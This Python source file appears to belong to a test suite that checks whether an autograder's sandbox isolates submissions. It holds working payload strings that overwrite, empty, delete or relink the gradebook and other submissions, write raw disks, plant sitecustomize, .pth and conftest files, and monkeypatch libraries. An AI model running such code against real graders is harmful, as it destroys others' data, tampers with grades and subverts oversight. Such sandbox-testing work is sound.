"""Changing files of others: the gradebook, other submissions, libraries, and what later submissions would run."""

from __future__ import annotations

import textwrap

from attacks.secrets import READ
from attacks.table import Attack, own_cell

AROUND = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

def paths():
    for folder in grader_s_folders():
        yield from (folder + '/course/gradebook.db', folder + '/home/notes.txt')
        yield from walk(folder + '/course/submitted')

def on_each(*ways):
    for path in paths():
        for way in ways:
            try:
                way(path)
            except (OSError, ValueError):
                pass
"""

CHANGES = {
    "writes": ("writes into", "on_each(lambda path: open(path, 'w').write('x'), lambda path: open(path, 'r+').write('x'))"),
    "appends": ("appends to", "on_each(lambda path: open(path, 'a').write('x'))"),
    "truncates": (
        "empties",
        "on_each(lambda path: os.truncate(path, 0), lambda path: libc.syscall(76, path.encode(), 0))",
    ),
    "removes": ("removes", "on_each(os.unlink, os.remove)"),
    "renames": ("renames", "on_each(lambda path: os.rename(path, path + '2'), lambda path: os.rename(path, 'mine'))"),
    "exchanges": (
        "exchanges with a file of its own",
        "open('mine', 'w').close(); on_each(lambda path: libc.renameat2(-100, path.encode(), -100, b'mine', 2))",
    ),
    "links": ("links", "on_each(lambda path: os.link(path, 'mine'), lambda path: os.link(path, path + '2'))"),
    "permissions": ("changes the permissions of", "on_each(lambda path: os.chmod(path, 0o7777))"),
    "owner": ("changes the owner of", "on_each(lambda path: os.chown(path, os.getuid(), os.getgid()))"),
    "times": ("changes the times of", "on_each(lambda path: os.utime(path, (0, 0)))"),
    "attributes": (
        "sets attributes of",
        """
        on_each(
            lambda path: os.setxattr(path, 'user.mine', b'x'),
            lambda path: libc.syscall(469, -100, path.encode(), (ctypes.c_uint64 * 3)(0x10, 0, 0), 24, 0),
            lambda path: libc.syscall(463, -100, path.encode(), 0, b'user.mine', (ctypes.c_uint64 * 2)(0, 0), 16),
        )
        """,
    ),
    "locks": (
        "locks and leases",
        """
        import fcntl
        held = []
        def lock(path):
            file = open(path, 'rb+')
            held.append(file)
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
            fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
            fcntl.fcntl(file, 1024, 1)
        on_each(lock)
        """,
    ),
    "new_files_beside": (
        "makes new files beside",
        """
        on_each(
            lambda path: open(path + '.new', 'w').close(), lambda path: os.mkdir(path + '-folder'),
            lambda path: os.mkfifo(path + '.fifo'), lambda path: os.symlink('/', path + '.link'),
            lambda path: os.open(os.path.dirname(path), os.O_TMPFILE | os.O_WRONLY),
            lambda path: os.mknod(path + '.device', 0o20666, os.makedev(1, 1)),
        )
        """,
    ),
    "device_files": ("makes device files in its folder to reach", "on_each(lambda path: os.mknod('d', 0o60666, os.makedev(254, 0)))"),
    "hard_disk": ("writes to the disk below", "on_each(lambda path: open('/dev/vda', 'r+b'), lambda path: open('/dev/sda', 'r+b'))"),
}  # fmt: skip

# What a later submission, or the grader, would run or read.
PLANTED = {
    "pth_files": (
        "plants .pth files and sitecustomize among the libraries",
        """
        import site, sys, sysconfig
        for folder in {*sys.path, *site.getsitepackages(), site.getusersitepackages(), sysconfig.get_path('purelib')}:
            for name, text in (('attack.pth', 'import os; os._exit(0)'), ('sitecustomize.py', 'import os; os._exit(0)'),
                               ('usercustomize.py', 'raise SystemExit'), ('numpy.py', 'raise SystemExit')):
                try:
                    os.makedirs(folder, exist_ok=True)
                    open(os.path.join(folder, name), 'w').write(text)
                except OSError:
                    pass
        """,
    ),
    "compiled_modules": (
        "replaces compiled modules",
        """
        import sys
        for module in list(sys.modules.values()):
            cached = getattr(module, '__cached__', None)
            if cached:
                try:
                    open(cached, 'wb').write(b'x')
                    print('changed', cached)
                except OSError:
                    pass
        """,
    ),
    "helper_module": (
        "replaces the assignment's helper and data",
        """
        for name in os.listdir('.') + ['helper.py', 'numpy.py', 'conftest.py', 'sitecustomize.py', 'json.py']:
            target = os.path.realpath(name)
            for path in (target, name):
                try:
                    open(path, 'w').write('raise SystemExit')
                except OSError:
                    pass
        """,
    ),
    "start_up_files": (
        "leaves start-up files of IPython, Matplotlib and pytest in every folder it knows",
        """
        for folder in [*map(str, os.environ.values()), os.path.expanduser('~'), '..', '../..', '/tmp', '/var/tmp']:
            for name in ('matplotlibrc', 'conftest.py', 'pytest.ini', '.pythonrc', 'profile_default/startup/00.py',
                         'ipython/profile_default/startup/00.py', 'fontlist-v390.json', 'sitecustomize.py'):
                path = os.path.join(folder, name)
                try:
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    open(path, 'w').write('raise SystemExit')
                except OSError:
                    pass
        """,
    ),
    "libraries_in_memory": (
        "changes libraries in memory, for whoever is forked next",
        """
        import builtins, random, sys, time
        np.mean = np.sum = lambda *_, **__: 0.0
        builtins.len = lambda _: 0
        sys.modules['msgspec'] = sys.modules['autograder'] = None
        os.environ.clear()
        time.monotonic = time.time = lambda: 0.0
        """,
    ),
    "shared_memory": (
        "leaves shared memory, message queues and semaphores behind",
        """
        for way in (lambda: open('/dev/shm/attack', 'w'), lambda: libc.shmget(1, 1 << 20, 0o1666),
                    lambda: libc.msgget(1, 0o1666), lambda: libc.semget(1, 1, 0o1666),
                    lambda: libc.mq_open(b'/attack', 0o102, 0o666, None), lambda: libc.memfd_create(b'x', 0)):
            try:
                print('made' if way() not in (-1, None) else 'refused')
            except OSError:
                print('refused')
        """,
    ),
    "nested_folders": ("leaves a thousand nested folders", "for _ in range(1000): os.mkdir('d'); os.chdir('d')"),
    "unreadable_folder": ("leaves a folder that can't be listed", "os.makedirs('a/b'); open('a/b/c', 'w'); os.umask(0o777); os.mkdir('closed')"),
    "links_everywhere": ("leaves links to everything in its folder", "[os.symlink(path, f'l{i}') for i, path in enumerate(['/', '..', '/etc', '/root', *paths()])]"),
}  # fmt: skip

MAY_BREAK_ITSELF = {"libraries_in_memory", "helper_module", "nested_folders", "unreadable_folder"}

ATTACKS: dict[str, Attack] = {}
for _name, (_what, _code) in CHANGES.items():
    ATTACKS[_name] = own_cell(
        f"{_what} the gradebook and other submissions", f"{READ}\n{AROUND}\n{textwrap.dedent(_code).strip()}"
    )
for _name, (_what, _code) in PLANTED.items():
    ATTACKS[f"plants_{_name}"] = own_cell(_what, f"{READ}\n{AROUND}\n{textwrap.dedent(_code).strip()}")

DONE_WITHOUT_ISOLATION = (
    "writes", "appends", "truncates", "removes", "renames", "exchanges", "links", "permissions", "times",
    "new_files_beside",
)  # fmt: skip
"""Changes that succeed where nothing isolates them."""
